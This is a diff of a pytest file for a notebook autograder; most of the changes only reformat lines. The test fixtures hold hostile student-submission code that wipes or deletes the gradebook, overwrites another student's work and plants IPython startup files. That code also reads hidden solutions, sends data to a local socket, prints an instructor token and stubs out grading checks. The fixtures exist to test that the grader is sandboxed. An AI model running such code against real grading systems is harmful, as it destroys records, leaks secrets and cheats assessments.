@@ -146,7 +146,8 @@ class Graded:
         return path.read_text()
 
 
-def run_grade(course: Path, assignment: str, submissions: Path, *extra: str, cell_timeout: int = CELL_TIMEOUT) -> Graded:
+def run_grade(course: Path, assignment: str, submissions: Path, *extra: str,
+              cell_timeout: int = CELL_TIMEOUT) -> Graded:
     code = grade_main([assignment, "--course-dir", str(course), "--submissions", str(submissions),
                        "--cell-timeout", str(cell_timeout), *extra])
     return Graded(course, assignment, code)
@@ -170,7 +171,8 @@ def wrong_solution() -> nbformat.NotebookNode:
     nb = solved(A2)
     c = cell(nb, "inception_module")
     assert "BasicConv2d(ch5x5red, ch5x5, 5, padding=2)" in c.source
-    c.source = c.source.replace("BasicConv2d(ch5x5red, ch5x5, 5, padding=2)", "BasicConv2d(ch5x5red, ch5x5, 3, padding=1)")
+    c.source = c.source.replace("BasicConv2d(ch5x5red, ch5x5, 5, padding=2)",
+                                "BasicConv2d(ch5x5red, ch5x5, 3, padding=1)")
     return nb
 
 
@@ -249,13 +251,15 @@ def graded2(course, tmp_path_factory) -> Hostile:
         _try(lambda: sqlite3.connect({str(gradebook)!r}).executescript("UPDATE grade SET auto_score = 0;"))
         _try(lambda: open({str(work / "submitted" / "victim" / A2 / (A2 + ".ipynb"))!r}, "w").write("{{}}"))
         _try(lambda: os.remove({str(gradebook)!r}))
-        _try(lambda: open({str(course / "nbgrader_config.py")!r}, "a").write("\\nopen({str(marker / "config")!r}, 'w')\\n"))
+        _try(lambda: open({str(course / "nbgrader_config.py")!r}, "a").write(
+            "\\nopen({str(marker / "config")!r}, 'w')\\n"))
         _try(lambda: open({str(course / "solutions" / A2 / (A2 + ".ipynb"))!r}).read())
         _try(lambda: open({str(marker / "written")!r}, "w").write("x"))
         _try(lambda: os.makedirs(os.path.expanduser("~/.ipython/profile_default/startup"), exist_ok=True))
         _try(lambda: open(os.path.expanduser("~/.ipython/profile_default/startup/00-x.py"), "w").write(
             "open({str(marker / "startup")!r}, 'w')"))
-        _try(lambda: open({str(Path.home() / ".ipython" / "profile_default" / "startup" / "00-hostile.py")!r}, "w").write(
+        _try(lambda: open(
+            {str(Path.home() / ".ipython" / "profile_default" / "startup" / "00-hostile.py")!r}, "w").write(
             "open({str(marker / "startup-home")!r}, 'w')"))
         _try(lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak"))
         print("env:", os.environ.get("COURSE_INSTRUCTOR_TOKEN"), os.environ.get("COURSE_DATA"))
@@ -267,7 +271,7 @@ def graded2(course, tmp_path_factory) -> Hostile:
     """))
     # tricks inside its own kernel to pass checks it fails
     write(subs / "forger", f"{A2}.ipynb", attack(wrong_solution(), "naive_module", """
-        from course_pkg.grading import checks as _real
+        from course_pkg import checks as _real
         _real.require = lambda *a, **k: None
         _real.fail_on = lambda *a, **k: None
         _real.inception_findings = lambda *a, **k: []
@@ -486,7 +490,7 @@ def test_garbage_and_unsafe_zip_are_reported_not_graded(graded2):
     g = graded2.graded
     assert g.rows["garbage"]["status"] == "failed" and "not valid JSON" in g.rows["garbage"]["reason"]
     assert g.rows["escaper"]["status"] == "failed" and "unsafe path" in g.rows["escaper"]["reason"]
-    assert not list(g.course.parent.glob(f"escaped-*"))
+    assert not list(g.course.parent.glob("escaped-*"))
 
 
 def test_reports_and_feedback_without_hidden_tests(graded2):
@@ -508,7 +512,6 @@ def test_reports_and_feedback_without_hidden_tests(graded2):
 
 
 def test_rerun_grades_only_new_or_changed(course, graded2, tmp_path):
-    g = graded2.graded
     subs = tmp_path / "subs"
     write(subs / "solver", f"{A2}.ipynb", solved(A2))
     write(subs / "tv3x3", f"{A2}.ipynb", solved(A2))  # tv3x3 fixed the bug
